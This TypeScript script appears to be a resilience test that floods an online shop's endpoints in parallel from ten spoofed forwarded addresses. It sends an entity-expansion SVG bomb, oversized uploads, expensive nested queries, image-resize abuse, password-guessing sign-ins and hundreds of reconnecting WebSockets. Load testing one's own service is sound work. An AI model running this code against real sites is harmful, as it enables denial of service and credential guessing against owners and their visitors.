import {setPriority} from 'node:os'
import {setTimeout as pause} from 'node:timers/promises'
import {WebSocket} from 'ws'
import {z} from 'zod'

// Attacks every door of a shop at once, from ten addresses, until its parent disconnects. Sends its counts of responses by
// door and status then. The arguments are the shop's address and the path of a picture.
const [url = '', picture = ''] = process.argv.slice(2)
const ADDRESSES = Array.from({length: 10}, (_, n) => `192.0.2.${n + 1}`)
/** Requests of one address at one door at the same time. */
const AT_ONCE = 3
/** Sockets of one address: as many as it may have. */
const SOCKETS = 200
/** Milliseconds to wait after a rejection, as a patient attacker would to save its own resources. */
const AFTER_REJECTION_MS = 20

// The attack comes from other machines. Here it shares the processors, so the shop and its visitors go first.
setPriority(19)

let unique = 0
const next = () => `${Date.now().toString(36)}${(unique += 1)}`
const counts: Record<string, Record<string, number>> = {}

type Door = (headers: Record<string, string>) => Promise<Response>

/** An SVG of 107 kB that expands to gigabytes. */
const svg = `<!DOCTYPE svg [<!ENTITY e "${'x'.repeat(50_000)}">]><svg xmlns="http://www.w3.org/2000/svg"><path id="${'&e;'.repeat(19_000)}"/></svg>`

const handedOut = z.object({upload: z.object({fields: z.record(z.string(), z.string())})})

function uploading(fileName: string, contentType: string, body: string | Uint8Array<ArrayBuffer>): Door {
  return async (headers) => {
    const asked = await fetch(`${url}/upload-service/get-upload-url`, {
      method: 'POST',
      headers: {...headers, 'content-type': 'application/json'},
      body: JSON.stringify({fileName, contentType}),
    })
    if (!asked.ok) return asked
    const form = new FormData()
    for (const [name, value] of Object.entries(handedOut.parse(await asked.json()).upload.fields))
      form.append(name, value)
    form.append('file', new Blob([body]), fileName)
    return fetch(`${url}/upload-service/objects`, {method: 'POST', headers, body: form})
  }
}

const posting =
  (path: string, body: () => string, type = 'application/json'): Door =>
  async (headers) =>
    fetch(url + path, {method: 'POST', headers: {...headers, 'content-type': type}, body: body()})

const getting =
  (path: () => string): Door =>
  async (headers) =>
    fetch(url + path(), {headers})

const query = (groq: string) =>
  `/lake/v2025-02-19/data/query/production?query=${encodeURIComponent(groq)}&returnQuery=false`

const doors: Record<string, Door> = {
  'SVG uploads': uploading('a.svg', 'image/svg+xml', svg),
  'large uploads': uploading('a.png', 'image/png', new Uint8Array(15_000_000)),
  enquiries: posting('/forms/submissions', () =>
    JSON.stringify({fields: [{name: 'page_url', value: `https://shop.example/${next()}`}]}),
  ),
  'large enquiries': posting('/forms/submissions', () => JSON.stringify({fields: ['x'.repeat(60_000)]})),
  pictures: getting(() => `/lake/${picture}?w=${3000 + (unique += 1)}&fm=avif`),
  pages: getting(() => `/designs?q=${next()}`),
  'pages of the home page': getting(() => `/?x=${next()}`),
  queries: getting(() => query(`*[count(*[_id > ^._id && title match "a*"]) > ${(unique += 1)}]`)),
  'full-text queries': getting(() => query(`*[@ match text::query("granite ${next()}")]`)),
  'sign-ins': posting('/lake/v1/auth/sign-in', () => JSON.stringify({password: next()})),
}

async function attack(name: string, door: Door, address: string) {
  const ofDoor = (counts[name] ??= {})
  for (;;) {
    const status = await door({'x-forwarded-for': address}).then(
      async (response) => {
        await response.arrayBuffer()
        return String(response.status)
      },
      () => 'no response',
    )
    ofDoor[status] = (ofDoor[status] ?? 0) + 1
    if (!status.startsWith('2')) await pause(AFTER_REJECTION_MS)
  }
}

function openSockets(address: string) {
  const ofDoor = (counts.sockets ??= {})
  const count = (status: string) => void (ofDoor[status] = (ofDoor[status] ?? 0) + 1)
  const open = () => {
    const socket = new WebSocket(`${url.replace('http', 'ws')}/lake/v1/socket/production`, {
      headers: {'x-forwarded-for': address},
    })
    socket.on('open', () => count('open'))
    socket.on('error', () => count('rejected'))
    // As soon as the shop closes a socket, the attacker opens another.
    socket.on('close', () => setTimeout(open, 1000))
  }
  for (let n = 0; n < SOCKETS; n += 1) open()
}

process.once('disconnect', () => process.exit(0))
process.on('message', () => process.send?.({counts}))
for (const address of ADDRESSES) {
  openSockets(address)
  for (const [name, door] of Object.entries(doors))
    for (let n = 0; n < AT_ONCE; n += 1) void attack(name, door, address)
}
